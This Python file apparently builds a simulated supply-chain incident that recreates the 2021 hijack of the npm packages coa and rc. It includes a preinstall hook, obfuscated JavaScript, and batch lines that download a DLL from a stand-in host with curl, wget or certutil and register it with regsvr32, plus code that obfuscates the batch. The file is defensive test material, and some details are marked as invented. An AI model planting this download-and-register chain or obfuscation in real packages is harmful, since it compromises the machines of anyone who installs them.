"""coa and rc (2021-11-04): taken accounts of two silent packages; a preinstall runs an obfuscated batch that fetches a library.

By the record: coa first, then some hours later rc, whose three lines came within 28 seconds after 1,257 days of silence, by the
accounts of their maintainers. The script before the install starts an obfuscated file of JavaScript, that starts an obfuscated batch
on Windows, and that fetches the library of a thief of passwords and registers it. Noticed within 72 minutes.
"""

import random

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from gauntlet.shapes import obfuscated
from pratique.core.names import Ecosystem

_COA = """exports.Cmd = Cmd;

function Cmd(name) {
  this.named = name || '';
  this.options = {};
  this.commands = {};
}

Cmd.prototype.title = function (text) { this.text = text; return this; };

Cmd.prototype.opt = function (name, short, many) {
  var one = { key: name, many: Boolean(many) };
  this.options['--' + name] = one;
  if (short) { this.options['-' + short] = one; }
  return this;
};

Cmd.prototype.cmd = function (name) {
  return this.commands[name] || (this.commands[name] = new Cmd(name));
};

Cmd.prototype.act = function (action) { this.action = action; return this; };

Cmd.prototype.run = function (argv) {
  var words = (argv || process.argv.slice(2)).slice(), opts = {}, args = [];
  if (this.commands[words[0]]) { return this.commands[words.shift()].run(words); }
  while (words.length) {
    var word = words.shift(), option = this.options[word.split('=')[0]];
    if (!option) { args.push(word); continue; }
    var value = word.indexOf('=') < 0 ? words.shift() : word.slice(word.indexOf('=') + 1);
    opts[option.key] = option.many ? (opts[option.key] || []).concat(value) : value;
  }
  return this.action && this.action.call(this, opts, args);
};
"""
_RC = """var fs = require('fs');
var path = require('path');

function parse(text) {
  if (/^\\s*{/.test(text)) { return JSON.parse(text); }
  return text.split('\\n').reduce(function (found, line) {
    var pair = /^\\s*([^#;=\\s]+)\\s*=\\s*(.*)$/.exec(line);
    if (pair) { found[pair[1]] = pair[2].trim(); }
    return found;
  }, {});
}

function file(name) {
  try { return parse(fs.readFileSync(name, 'utf8')); } catch (error) { return {}; }
}

function env(prefix) {
  return Object.keys(process.env).reduce(function (found, key) {
    if (key.indexOf(prefix) === 0) { found[key.slice(prefix.length)] = process.env[key]; }
    return found;
  }, {});
}

module.exports = function (name, defaults) {
  var home = process.platform === 'win32' ? process.env.USERPROFILE : process.env.HOME;
  return Object.assign({}, defaults,
    file(path.join('/etc', name + 'rc')),
    file(path.join(home, '.' + name + 'rc')),
    file(path.resolve('.' + name + 'rc')),
    env(name + '_'));
};
"""
_COMPILE = """
const { exec } = require('child_process');
const os = require('os');
const system = os.platform();
if (system === 'win32') {
  exec('cmd.exe /c compile.bat', (error, stdout, stderr) => {
    if (error) { console.log(error.message); return; }
    if (stderr) { console.log(stderr); return; }
    console.log(stdout);
  });
}
"""
_BATCH = (
    "curl http://sink.invalid/marker.dll -o compile.dll",
    "if not exist compile.dll wget http://sink.invalid/marker.dll -O compile.dll",
    "if not exist compile.dll certutil.exe -urlcache -f http://sink.invalid/marker.dll compile.dll",
    "regsvr32.exe -s compile.dll",
)
_LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789@"


def _batch(seed: int) -> str:
    """Each letter is a place in a variable that holds all letters in disorder, as batches are hidden."""
    pick = random.Random(seed)
    names = [f"_{pick.randrange(0x1000, 0xFFFF):x}" for _ in range(2)]
    lines = ["@echo off"]
    orders = []
    for name in names:
        orders.append("".join(pick.sample(_LETTERS, len(_LETTERS))))
        lines.append(f'Set "{name}={orders[-1]}"')
    lines.append("cls")
    for line in _BATCH:
        hidden = ""
        for letter in line:
            which = pick.randrange(2)
            at = orders[which].find(letter)
            hidden += letter if at < 0 else f"%{names[which]}:~{at},1%"
        lines.append(hidden)
    return "\r\n".join([*lines, ""])


_DROPS = {"compile.js": obfuscated(_COMPILE, seed=2021), "compile.bat": _batch(2021)}
_COA_OWNERS = ("arikon", "qfox", "veged")
_RC_OWNERS = ("dominictarr",)


def _release(
    version: str, at: str, files: dict[str, str], owners: tuple[str, ...], *, bad: bool = False
) -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher=owners[0],
        maintainers=owners,
        files={**files, **(_DROPS if bad else {})},
        scripts={"preinstall": "start /B node compile.js & node compile.js"} if bad else {},
    )


def _coa(version: str, at: str, *, bad: bool = False) -> Release:
    return _release(version, at, {"index.js": _COA}, _COA_OWNERS, bad=bad)


def _rc(version: str, at: str, *, bad: bool = False) -> Release:
    return _release(version, at, {"index.js": _RC}, _RC_OWNERS, bad=bad)


_BAD = {
    "coa": ("2.0.3", "2.0.4", "2.1.1", "2.1.3", "3.0.1", "3.1.3"),
    "rc": ("1.2.9", "1.3.9", "2.3.9"),
}
_COA_TIMES = ("12:15:00", "12:40:00", "13:10:00", "13:25:00", "13:40:00", "13:50:00")

INCIDENT = Incident(
    id="coa-rc-2021",
    title=(
        "an attacker took over coa and rc, two dormant packages; a preinstall script ran an obfuscated batch file "
        "that downloads and registers a DLL"
    ),
    copy=("our copy has the same chain of a script, obfuscated JavaScript and an obfuscated batch file"),
    ecosystem=Ecosystem.NPM,
    at=utc("2021-11-04T15:30:19Z"),
    packages=(
        Package(
            name="coa",
            releases=(
                _coa("1.0.4", "2017-06-20T12:00:00Z"),
                _coa("2.0.0", "2017-10-31T12:00:00Z"),
                _coa("2.0.1", "2018-02-26T12:00:00Z"),
                _coa("2.0.2", "2018-12-11T12:00:00Z"),
                *(
                    _coa(version, f"2021-11-04T{time}Z", bad=True)
                    for version, time in zip(_BAD["coa"], _COA_TIMES, strict=True)
                ),
            ),
        ),
        Package(
            name="rc",
            releases=(
                _rc("1.2.5", "2018-01-31T01:10:01.725Z"),
                _rc("1.2.6", "2018-03-13T04:38:55.888Z"),
                _rc("1.2.7", "2018-04-29T17:48:10.164Z"),
                _rc("1.2.8", "2018-05-26T23:43:53.976Z"),
                _rc("1.2.9", "2021-11-04T15:30:19Z", bad=True),
                _rc("1.3.9", "2021-11-04T15:30:34Z", bad=True),
                _rc("2.3.9", "2021-11-04T15:30:47Z", bad=True),
            ),
        ),
    ),
    asks={"coa": "^2.0.2", "rc": "^1.2.8"},
    good={"coa": "2.0.2", "rc": "1.2.8"},
    bad={"coa": ("2.1.3",), "rc": ("1.3.9",)},
    guilty=_BAD,
    gone_at=utc("2021-11-04T16:42:00Z"),
    advisory=Advisory(id="GHSA-73qr-pfmq-6rp8", at=utc("2021-11-04T18:00:00Z"), about=_BAD),
    invented="publish times and accounts of coa, and the hour of removal; one advisory represents two",
)
